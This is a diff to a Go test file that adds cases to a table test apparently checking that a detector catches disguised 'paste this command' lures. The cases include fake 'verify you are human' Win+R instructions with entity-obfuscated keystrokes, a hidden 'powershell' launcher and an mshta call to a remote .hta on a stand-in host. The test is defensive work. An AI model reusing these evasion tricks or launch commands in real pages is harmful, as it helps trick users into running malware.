@@ -148,6 +148,8 @@ func TestPasteCommandDisguised(t *testing.T) {
 		{"zero-width references", plus + "power&ZeroWidthSpace;sh&zwnj;e&zwj;ll&NoBreak;" + tail, true},
 		{"zero-width space as a numeric reference", plus + "power&#8203;shell" + tail, true},
 		{"tags inside the launcher", plus + "power<span>shell</span>" + tail, true},
+		{"keys without '+', spaces as references without ';'", "Verify you are human: press the Windows&#32key and R, then CTRL&#32V, then Enter.\npowershell" + tail, true},
+		{"keys without '+', spaces as references with leading zeros", "Verify you are human: press the Windows&#0000000032;key and R, then CTRL&#x00000000020;V, then Enter.\npowershell" + tail, true},
 		{"a soft hyphen named without ';'", plus + "power&shyshell" + tail, true},
 		{"a reference with leading zeros", plus + "power&#0000000115;hell" + tail, true},
 		{"a hexadecimal reference with leading zeros", plus + "&#x000000006D;shta https://cdn.lure.example/c.hta", true},
